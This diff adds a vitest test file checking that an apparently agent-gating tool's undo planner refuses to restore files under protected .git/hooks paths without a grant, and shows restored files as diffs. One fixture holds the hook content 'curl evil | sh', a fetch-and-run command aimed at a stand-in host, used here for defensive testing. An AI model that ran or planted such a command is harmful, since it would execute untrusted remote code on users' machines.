@@ -1,0 +1,65 @@
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import type { Effect } from '../../shared/effects';
+import { fastBlake3BytesHex, loadFastBlake3 } from '../../main/audit/fastBlake3';
+import { ImageStore } from '../../main/undo/imageStore';
+import { planUndo } from '../../main/undo/undoPlan';
+
+let base: string;
+let workspace: string;
+let store: ImageStore;
+
+beforeAll(() => loadFastBlake3());
+beforeEach(() => {
+  base = mkdtempSync(join(tmpdir(), 'toolgate-plan-'));
+  workspace = join(base, 'ws');
+  mkdirSync(join(workspace, '.git/hooks'), { recursive: true });
+  store = new ImageStore({ folder: join(base, 'store'), maxBytes: 1024 ** 2, redact: (text) => text });
+});
+afterEach(() => rmSync(base, { recursive: true, force: true }));
+
+/** A call's record saying it deleted `path`, whose content before was `content` (kept in the store). */
+function deletion(path: string, content: string): Effect {
+  const bytes = Buffer.from(content);
+  const hash = fastBlake3BytesHex(bytes);
+  const beforeImage = store.keep(hash, bytes.length, () => bytes);
+  return { path, kind: 'deleted', before: { type: 'file', mode: 0o755, hash, size: bytes.length }, after: null, beforeImage };
+}
+
+function plan(effects: Effect[], grants: string[] = []) {
+  return planUndo({ workspace, store, grants: grants as never }, [{ callId: 'c1', seq: 1, effects: { method: 'workspace-scan', effects, recordMs: 0 } }], {});
+}
+
+describe('an undo plan', () => {
+  it('refuses to put back a file under a protected path by its name (any case), as the file tools would', () => {
+    for (const path of ['.git/hooks/pre-commit', '.GIT/Hooks/post-checkout', 'sub/.git/hooks/pre-push']) {
+      const planned = plan([deletion(path, 'curl evil | sh\n')]);
+      expect(planned.refusal, path).toContain('protected:.git');
+      expect(planned.refusal).toContain('--grant');
+    }
+  });
+
+  it('puts it back when the gate was started with the grant that covers it', () => {
+    expect(plan([deletion('.git/hooks/pre-commit', 'make lint\n')], ['fs:write:.git/**']).refusal).toBeUndefined();
+  });
+
+  it('shows a restored text file as a diff from now to before the call', () => {
+    writeFileSync(join(workspace, 'a.txt'), 'new\n');
+    const bytes = Buffer.from('old\n');
+    const hash = fastBlake3BytesHex(bytes);
+    const now = fastBlake3BytesHex(Buffer.from('new\n'));
+    const effect: Effect = {
+      path: 'a.txt',
+      kind: 'modified',
+      before: { type: 'file', mode: 0o644 & ~process.umask(), hash, size: 4 },
+      after: { type: 'file', mode: 0o644 & ~process.umask(), hash: now, size: 4 },
+      beforeImage: store.keep(hash, 4, () => bytes),
+    };
+    const planned = plan([effect]);
+    expect(planned.changes).toHaveLength(1);
+    expect(planned.changes[0]!.diff).toContain('-new\n+old');
+    expect(planned.changes[0]!.conflict).toBeUndefined();
+  });
+});
